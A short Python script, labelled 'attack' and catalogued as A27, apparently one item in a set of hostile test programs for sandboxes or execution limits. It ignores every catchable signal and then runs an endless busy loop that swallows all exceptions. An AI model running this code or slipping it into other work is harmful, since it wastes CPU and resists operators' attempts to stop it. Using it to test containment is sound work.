# attack: loops for ever and ignores every signal that can be ignored
# catalogue: A27
# %%
import signal

for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
